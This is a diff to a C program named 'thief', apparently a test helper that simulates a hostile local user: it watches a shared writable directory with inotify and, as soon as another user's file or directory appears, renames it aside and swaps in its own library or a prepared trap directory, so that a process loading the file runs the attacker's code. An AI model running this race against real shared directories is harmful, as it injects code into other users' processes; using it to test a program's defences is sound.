@@ -1,17 +1,18 @@
 /*
- * A process of another user that wants its code to be executed: as soon as a file or directory of
- * ours turns up in a directory that he can write to, he renames it and puts one of his in its
- * place. His library leaves a mark in the process that loads it.
+ * A process of another user that wants its code to be executed. It sleeps until something turns up
+ * in a directory that it can write to, and puts at once something of its own in that place: for a
+ * directory one that it has made ready, in which it waits again, for a file its library. The
+ * library leaves a mark in the process that loads it.
  *
  *   thief UID DIRECTORY LIBRARY     until it is killed
  */
 #define _GNU_SOURCE
-#include <dirent.h>
 #include <fcntl.h>
-#include <stdbool.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/inotify.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -24,69 +25,126 @@ __attribute__((constructor)) static void leave_a_mark(void)
 }
 #else
 
-static char library[1 << 20];
+enum { TRAPS = 2000, PATH = 512 };
 
-static size_t read_library(const char *file)
+static const char *library;
+static int events; /* an inotify */
+static struct trap {
+    int watch;
+    char path[PATH]; /* where it is now */
+} traps[TRAPS];
+static int made; /* of them, the last one is ready */
+
+static void die(const char *what)
 {
-    FILE *const from = fopen(file, "r");
-    const size_t bytes = from == NULL ? 0 : fread(library, 1, sizeof library, from);
-    if (bytes == 0)
-        exit(2);
-    fclose(from);
-    return bytes;
+    perror(what);
+    exit(2);
 }
 
-static size_t library_bytes;
-static uid_t thief;
-
-static void replace(int where, const char *name, bool is_directory)
+/* A directory whose events we get wherever it is moved to. */
+static void make_ready(void)
 {
-    char stolen[64];
-    static unsigned count;
-    snprintf(stolen, sizeof stolen, "stolen-%u", count++);
-    if (renameat(where, name, where, stolen) != 0)
-        return;
-    if (is_directory) {
-        mkdirat(where, name, 0777);
-        fchmodat(where, name, 0777, 0);
-        return;
-    }
-    const int copy = openat(where, name, O_CREAT | O_EXCL | O_WRONLY, 0777);
-    if (copy >= 0 && write(copy, library, library_bytes) > 0)
-        fchmod(copy, 0777);
-    close(copy);
+    struct trap *const trap = &traps[made];
+    snprintf(trap->path, PATH, "trap-%d", made);
+    if (mkdir(trap->path, 0777) != 0)
+        die(trap->path);
+    trap->watch = inotify_add_watch(events, trap->path, IN_CREATE);
+    if (trap->watch < 0)
+        die("inotify");
+    made++;
 }
 
-/* In this directory, and in those that are his already. */
-static void look(int where, int depth)
+static void copy_library(const char *to)
 {
-    DIR *const here = fdopendir(where);
-    for (struct dirent *each; here != NULL && (each = readdir(here)) != NULL;) {
-        struct stat found;
-        if (each->d_name[0] == '.' || strncmp(each->d_name, "stolen-", 7) == 0 ||
-            fstatat(where, each->d_name, &found, AT_SYMLINK_NOFOLLOW) != 0)
-            continue;
-        if (found.st_uid != thief)
-            replace(where, each->d_name, S_ISDIR(found.st_mode));
-        else if (S_ISDIR(found.st_mode) && depth < 2)
-            look(openat(where, each->d_name, O_RDONLY | O_DIRECTORY), depth + 1);
+    static char bytes[1 << 20];
+    const int from = open(library, O_RDONLY), copy = open(to, O_CREAT | O_WRONLY | O_TRUNC, 0777);
+    const ssize_t length = from < 0 ? -1 : read(from, bytes, sizeof bytes);
+    if (length <= 0 || write(copy, bytes, (size_t)length) != length)
+        die(library);
+    close(from), close(copy);
+}
+
+/* A directory of another, in which he may be allowed to write. */
+static void follow(const char *path)
+{
+    const int watch = inotify_add_watch(events, path, IN_CREATE);
+    if (watch < 0)
+        return;
+    traps[made] = traps[made - 1];
+    traps[made - 1].watch = watch;
+    memcpy(traps[made - 1].path, path, PATH);
+    made++;
+}
+
+/* What is there is moved aside in its directory: to move it elsewhere he would have to own it. */
+static void put_a_trap_at(const char *path)
+{
+    struct trap *const trap = &traps[made - 1];
+    char aside[PATH];
+    if (made == TRAPS || snprintf(aside, PATH, "%s-stolen-%d", path, made) >= PATH)
+        return;
+    if (rename(path, aside) != 0) {
+        follow(path);
+    } else if (rename(trap->path, path) == 0) {
+        memcpy(trap->path, path, PATH);
+        make_ready();
     }
-    if (here != NULL)
-        closedir(here);
+}
+
+static void put_the_library_at(const char *path)
+{
+    if (rename("library", path) == 0)
+        copy_library("library");
+}
+
+static void take(const char *directory, const struct inotify_event *event)
+{
+    char path[PATH];
+    if (event->len == 0 || strncmp(event->name, "trap-", 5) == 0 ||
+        strcmp(event->name, "library") == 0)
+        return; /* is ours */
+    if (snprintf(path, sizeof path, "%s/%s", directory, event->name) >= PATH)
+        return;
+    if ((event->mask & IN_ISDIR) != 0)
+        put_a_trap_at(path);
+    else
+        put_the_library_at(path);
+}
+
+static const char *directory_of(int watch)
+{
+    for (int i = made - 1; i >= 0; i--)
+        if (traps[i].watch == watch)
+            return traps[i].path;
+    return ".";
 }
 
 int main(int argc, char **argv)
 {
+    static _Alignas(struct inotify_event) char buffer[1 << 16];
     if (argc != 4)
         return 2;
-    library_bytes = read_library(argv[3]);
-    thief = (uid_t)atoi(argv[1]);
+    library = argv[3];
+    const uid_t thief = (uid_t)atoi(argv[1]);
     if (chdir(argv[2]) != 0 || setgid(thief) != 0 || setuid(thief) != 0)
-        return 2;
+        die(argv[2]);
     umask(0);
+    events = inotify_init1(IN_CLOEXEC);
+    copy_library("library");
+    make_ready();
+    if (inotify_add_watch(events, ".", IN_CREATE) < 0)
+        die("inotify");
     puts("ready");
     fflush(stdout);
-    for (;;)
-        look(open(".", O_RDONLY | O_DIRECTORY), 0);
+    for (;;) {
+        const ssize_t got = read(events, buffer, sizeof buffer);
+        if (got <= 0)
+            die("read");
+        for (const char *at = buffer; at < buffer + got;) {
+            const struct inotify_event *const event = (const void *)at;
+            take(directory_of(event->wd), event);
+            at += sizeof *event + event->len;
+        }
+    }
 }
 #endif
